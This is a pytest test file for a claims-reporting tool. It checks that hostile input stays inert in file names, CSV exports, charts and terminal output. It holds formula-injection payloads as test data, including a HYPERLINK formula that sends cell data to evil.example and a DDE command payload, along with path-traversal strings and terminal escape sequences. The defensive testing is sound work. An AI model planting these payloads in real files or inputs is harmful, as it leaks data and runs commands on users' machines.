"""Hostile text is inert: fast checks of the defences (names, CSV, charts, PDF text layout).

The rendered reports themselves are checked in `publish/test_render_security.py` (slow) and in a real
browser in `publish/test_render_browser.py`. docs/security.md lists which test proves which defence.
"""

from __future__ import annotations

import csv
import io
import os
import re
from datetime import date
from pathlib import Path

import matplotlib
import pandas as pd
import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from claimbook import store
from claimbook.errors import RenderError
from claimbook.params import BatchConfig, RenderConfig, ReportParams
from claimbook.publish import batch, export, folders, naming
from claimbook.report import charts
from claimbook.report.html import LINKED_CHARS, link
from claimbook.sources import register, review
from claimbook.store import typed_claims
from claimbook.store.csv_write import (
    FORMULA_STARTS,
    neutralize_cell,
    neutralize_formulas,
    neutralize_reversibly,
    restore_cell,
)
from conftest import run_cli
from datamaker import make_data
from hostile import HOSTILE, LONG_WORD

# Any text a CSV cell or a command-line argument can carry: every code point but surrogates
# (argv may carry lone surrogates, tested separately), with the troublemakers made likely.
TRICKY = st.sampled_from(["..", ".", "/", "\\", ":", "CON", "nul", "com1", "lpt9", " ", "\t",
                          "\u202e", "\u200b", "~", "$", "*", "?", "<", ">", "|", '"', "\x00",
                          "名字", "é", "ǅ", "\ufb01", "Ⅸ", "①"])
TEXT = st.lists(st.one_of(TRICKY, st.text(max_size=12)), max_size=8).map("".join)

NAME_OK = re.compile(r"[a-z0-9]+(-[a-z0-9]+)*")


def windows_safe(name: str) -> bool:
    """A file or folder name Windows and macOS accept as given and read back unchanged."""
    stem = name.split(".")[0].lower()
    return (bool(name) and len(name) <= 255 and name not in (".", "..")
            and not re.search(r'[<>:"/\\|?*\x00-\x1f]', name)
            and not name.endswith((".", " ")) and stem not in naming.WINDOWS_RESERVED)


# --- file names derived from data ----------------------------------------------------------------


@given(TEXT, st.integers(min_value=9, max_value=64))
def test_safe_name_is_a_plain_portable_name(text: str, max_len: int) -> None:
    name = naming.safe_name(text, max_len)
    assert NAME_OK.fullmatch(name) or re.fullmatch(r"x[0-9a-f]{8}", name), name
    assert len(name) <= max(max_len, 13)
    assert windows_safe(name), name
    assert naming.safe_name(text, max_len) == name, "names are stable across runs"


@pytest.mark.parametrize("reserved", ["CON", "con", "Prn", "AUX", "NUL", "COM1", "com9", "LPT1",
                                      "lpt9", "COM¹", "CONIN$", "conout$"])
def test_windows_device_names_are_never_a_name(reserved: str) -> None:
    name = naming.safe_name(reserved)
    assert name.split(".")[0] not in naming.WINDOWS_RESERVED
    assert windows_safe(name)


def test_lone_surrogates_from_argv_give_a_name_and_are_refused_as_parameters() -> None:
    """Python decodes undecodable argv bytes to lone surrogates (`--claimant $'\\xff'`): a name
    can still be made of them, but parameters refuse them (the kernel could not take them)."""
    assert windows_safe(naming.safe_name("\udcff"))
    with pytest.raises(ValueError, match="not UTF-8 text"):
        ReportParams(claimants=("\udcff",))


@given(st.lists(TEXT, max_size=4), st.lists(st.sampled_from(["denial", "allegation"]), max_size=2),
       st.one_of(st.none(), st.dates(date(1000, 1, 1), date(2999, 12, 31))))
def test_report_folders_stay_inside_the_reports_folder(claimants: list[str], types: list[str],
                                                       start: date | None) -> None:
    params = ReportParams(claimants=tuple(claimants), claim_types=tuple(types), start=start)
    name = naming.slug(params)
    assert windows_safe(name), name
    assert len(name) <= naming.MAX_SLUG
    reports = Path("/srv/reports")
    target = naming.output_dir(RenderConfig(params=params, reports_dir=reports))
    assert target.parent == reports and target.name == name
    assert Path(os.path.normpath(target)).parent == reports


@pytest.mark.parametrize("claimant", ["../../x", "..", "/etc/passwd", "C:\\Windows\\x",
                                      "\\\\server\\share", "~root", "a/../../b", "CON", "x\x00y",
                                      " trailing dot. ", LONG_WORD])
def test_hostile_claimant_names_make_safe_folders(claimant: str) -> None:
    name = naming.slug(ReportParams(claimants=(claimant,)))
    assert windows_safe(name) and "/" not in name and ".." not in name
    assert name.startswith("all-dates_claimant-")


def test_failed_reports_are_kept_inside_the_failed_folder(tmp_path: Path) -> None:
    kept = folders.keep_failed({"error.log": b"x"}, tmp_path, naming.slug(
        ReportParams(claimants=("../../escape",))))
    assert kept.parent == tmp_path / folders.FAILED_DIR
    assert (kept / "error.log").read_bytes() == b"x"


@pytest.mark.parametrize("bad", ["../x", "/abs", "a/b", "..", ".", ""])
def test_result_files_are_plain_names(tmp_path: Path, bad: str) -> None:
    """A result may come from a Dask worker on another machine: it names files, never paths."""
    with pytest.raises(RenderError):
        folders.publish({bad: b"x"}, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    assert not list(tmp_path.iterdir()), "no temporary folder left behind"


def test_batch_claimants_whose_names_collide_get_their_own_folders(tmp_path: Path) -> None:
    """'A.B' and 'a b' both make `a-b`: without care one report overwrites the other."""
    data = make_data(tmp_path, [
        {"claim_id": "C1", "claim": "one", "claimant": "A.B", "date": "2025-07", "quote": "q one"},
        {"claim_id": "C2", "claim": "two", "claimant": "a b", "date": "2025-07", "quote": "q two"},
        {"claim_id": "C3", "claim": "three", "claimant": "Other", "date": "2025-07",
         "quote": "q three"}])
    cfg = BatchConfig(base=ReportParams(data_dir=str(data)), start=date(2025, 7, 1),
                      end=date(2025, 7, 31), per="claimant", reports_dir=tmp_path / "reports")
    jobs = batch.plan(cfg)
    folders = [naming.output_dir(j) for j in jobs]
    assert len(set(folders)) == len(jobs) == 3
    assert all(f.parent == tmp_path / "reports" and windows_safe(f.name) for f in folders)
    assert "2025-07_claimant-other" in {f.name for f in folders}, "no hash without a collision"
    assert folders == [naming.output_dir(j) for j in batch.plan(cfg)], "stable across runs"


# --- CSV for spreadsheets ------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "'=already quoted"]


@pytest.mark.parametrize("value", FORMULAS)
def test_neutralize_cell(value: str) -> None:
    out = neutralize_cell(value)
    if value.startswith(FORMULA_STARTS):
        assert out == "'" + value
    else:
        assert out == value


def test_neutralize_leaves_plain_values_alone() -> None:
    df = pd.DataFrame({"text": ["plain", "", None, "a=b", "'x"], "n": [-1, 2, 3, 4, 5],
                       "=bad header": ["x"] * 5})
    out = neutralize_formulas(df)
    assert out["text"].tolist()[:2] == ["plain", ""] and pd.isna(out["text"][2])
    assert out["text"].tolist()[3:] == ["a=b", "'x"]
    assert out["n"].tolist() == [-1, 2, 3, 4, 5], "numbers stay numbers"
    assert list(out.columns) == ["text", "n", "'=bad header"]
    assert df["text"][0] == "plain" and list(df.columns)[2] == "=bad header", "input unchanged"


@given(st.lists(st.text(max_size=20), min_size=1, max_size=20))
def test_no_cell_of_a_neutralized_frame_starts_a_formula(values: list[str]) -> None:
    out = neutralize_formulas(pd.DataFrame({"v": values}, dtype="string"))
    for before, after in zip(values, out["v"], strict=True):
        assert not after.startswith(FORMULA_STARTS)
        assert after in (before, "'" + before)


def test_claims_csv_export_is_inert_in_a_spreadsheet(tmp_path: Path) -> None:
    claims = [{"claim_id": f"F{i}", "claim": f, "claimant": FORMULAS[-1 - i], "date": "2025-07",
               "quote": f"quote {i}"} for i, f in enumerate(FORMULAS)]
    data = make_data(tmp_path, claims)
    result = run_cli("claims", "--data", str(data), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
    by_id = {r["claim_id"]: r for r in rows}
    for i, f in enumerate(FORMULAS):
        expected = "'" + f if f.startswith(FORMULA_STARTS) else f
        assert by_id[f"F{i}"]["claim"] == expected
    json_out = run_cli("claims", "--data", str(data), "--format", "json")
    assert FORMULAS[0].replace('"', '\\"') in json_out.stdout, "JSON keeps the exact text"


# --- charts ----------------------------------------------------------------------------------------


def claims_frame(names: list[str]) -> pd.DataFrame:
    raw = pd.DataFrame([{
        "claim_id": f"C{i}", "claim": "c", "claimant": who, "claimant_type": "government",
        "claim_type": "denial", "date": "2025-04", "claimant_country": "", "topic": "",
        "responds_to": "", "notes": ""} for i, who in enumerate(names)], dtype=str)
    return typed_claims(raw)


CHART_TEXT = [v for k, v in HOSTILE.items() if k != "long_word"]


@pytest.mark.filterwarnings("ignore:Glyph .* missing from font")
def test_charts_show_hostile_names_as_escaped_text() -> None:
    """Inline SVG is markup: a claimant name must be a text node of it, never an element."""
    items = [(k, v) for k, v in HOSTILE.items() if k != "long_word"]
    step = charts.TOP_CLAIMANTS  # more claimants than that share one "all other" bar
    for make in (charts.by_claimant, charts.matrix):
        for chunk in (items[i:i + step] for i in range(0, len(items), step)):
            svg = charts.to_svg(make(claims_frame([v for _, v in chunk])))
            assert_inert_svg(svg)
            text = svg_text(svg)
            for name, value in chunk:
                assert charts._wrap(value).splitlines()[0] in text, name


def assert_inert_svg(svg: str) -> None:
    soup = BeautifulSoup(svg, "html.parser")
    tags = {t.name for t in soup.find_all(True)}
    assert tags <= {"svg", "g", "path", "text", "defs", "clippath", "rect", "use", "style",
                    "metadata", "rdf:rdf", "cc:work", "dc:type", "dc:date", "dc:format",
                    "dc:creator", "cc:agent", "dc:title"}, tags
    for t in soup.find_all(True):
        assert not [a for a in t.attrs if a.lower().startswith("on")], t.attrs
        for a in ("href", "xlink:href"):
            assert str(t.get(a, "#")).startswith("#"), t.attrs


def svg_text(svg: str) -> str:
    """The text the SVG shows, one string per line of a label."""
    soup = BeautifulSoup(svg, "html.parser")
    return "\n".join(t.get_text() for t in soup.find_all("text"))


@pytest.mark.filterwarnings("ignore:Glyph .* missing from font")
@pytest.mark.parametrize("make", [charts.by_claimant, charts.matrix])
def test_charts_drawn_anywhere_never_parse_dollar_signs(make) -> None:  # noqa: ANN001
    """JupyterLab draws a returned Figure outside claimbook's style; "$$" must not crash it."""
    fig = make(claims_frame([HOSTILE["latex_display"], HOSTILE["latex_inline"]]))
    with matplotlib.rc_context({"text.parse_math": True}):
        buf = io.BytesIO()
        fig.savefig(buf, format="png")
        svg = io.StringIO()
        fig.savefig(svg, format="svg")
    assert buf.getvalue().startswith(b"\x89PNG")
    assert "$$\\int_0^1" in svg.getvalue()


def test_a_long_name_is_cut_on_the_axis_and_distinct_names_keep_their_bars() -> None:
    names = [LONG_WORD, LONG_WORD[:-1] + "Y"]  # same first lines: must stay two bars
    fig = charts.by_claimant(claims_frame(names))
    ax = fig.axes[0]
    labels = [t.get_text() for t in ax.get_yticklabels()]
    assert len(labels) == 2
    assert all(len(label.splitlines()) <= charts.MAX_LINES and label.endswith("…")
               for label in labels)
    ys = sorted({round(p.get_y(), 3) for p in ax.patches})
    assert len(ys) == 2, "two claimants, two bars"
    assert len(charts.to_svg(fig)) < 100_000


# --- PDF text layout ------------------------------------------------------------------------------


def test_soft_breaks_split_only_long_words_of_text() -> None:
    html = ("<title>" + "t" * 200 + "</title><style>a{b:" + "c" * 200 + "}</style>"
            '<p class="' + "k" * 200 + '">' + "&amp;" * 150 + " short " + LONG_WORD + "</p>"
            "<svg><text>" + "s" * 200 + "</text></svg><script>" + "j" * 200 + "</script>")
    out = export.soft_breaks(html)
    assert out.replace("<wbr>", "") == html, "nothing but <wbr> is added"
    assert out.count("<wbr>") == 1 + (len(LONG_WORD) - 1) // 100
    assert "&amp;" * 100 + "<wbr>&amp;" in out, "entities are never cut"
    for kept in ("<title>" + "t" * 200, "c" * 200 + "}", '"' + "k" * 200 + '"', "s" * 200,
                 "j" * 200):
        assert kept in out


# --- links -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["https://example.org/" + LONG_WORD, "http://x.example/" + "b" * 200])
def test_a_long_address_is_shown_whole_and_linked_by_its_start(url: str) -> None:
    soup = BeautifulSoup(f"<li>{link(url)}</li>", "html.parser")
    a = soup.find("a")
    assert a["href"] == url and a["rel"] == ["noopener", "noreferrer"]
    assert a.get_text() == url[:LINKED_CHARS]
    assert soup.li.get_text() == url


# --- the review file (extract -> spreadsheet -> accept) ------------------------------------------


@given(st.text(max_size=12))
def test_review_cells_neutralize_and_restore_exactly(value: str) -> None:
    written = neutralize_reversibly(value)
    assert not written.startswith(FORMULA_STARTS)
    assert restore_cell(written) == value


def test_a_formula_in_a_source_is_inert_in_the_review_file_and_accepted_verbatim(
        data_copy: Path, tmp_path: Path) -> None:
    text = ('=HYPERLINK("https://evil.example/?"&A1,"Details") said the ministry on 3 '
            "September 2025.\n-5 degrees, the ministry said.\n")
    article = tmp_path / "a.txt"
    article.write_text(text, encoding="utf-8")
    src = register.add_source(data_copy, article, title="t", publisher="p")
    out = tmp_path / "review.csv"
    rows = [{c: "" for c in review.REVIEW_COLUMNS} | {
        "candidate_id": f"K00{i}", "mention": "1", "keep": "yes", "claim": quote,
        "claimant": "@ministry", "claimant_type": "government", "claim_type": "statement",
        "date": "2025-09", "doc_id": src.doc_id, "start": str(text.index(quote)),
        "end": str(text.index(quote) + len(quote)), "quote": quote}
        for i, quote in enumerate(["=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\") said",
                                   "-5 degrees"], start=1)]
    review.write_review(out, rows)
    with open(out, encoding="utf-8-sig", newline="") as f:
        cells = [v for r in csv.reader(f) for v in r]
    assert not [v for v in cells if v.startswith(FORMULA_STARTS)], "a spreadsheet runs nothing"
    done = review.accept(out, data_copy)
    assert [c["claim"] for c in done.claims] == [r["claim"] for r in rows]
    assert {c["claimant"] for c in done.claims} == {"@ministry"}
    claims = store.load(data_copy).claims
    assert set(claims["claim"]) >= {r["claim"] for r in rows}


def test_claims_on_a_terminal_show_no_control_characters(tmp_path: Path) -> None:
    """An escape sequence in a source must not reach the analyst's terminal."""
    data = make_data(tmp_path, [{"claim_id": "T1", "claim": "\x1b]0;pwned\x07\x1b[2J said\nno",
                                 "claimant": "\x1b[31mred\x1b[0m", "date": "2025-07",
                                 "quote": "plain quote"}])
    result = run_cli("claims", "--data", str(data))
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "]0;pwned" in result.output and "[31mred" in result.output
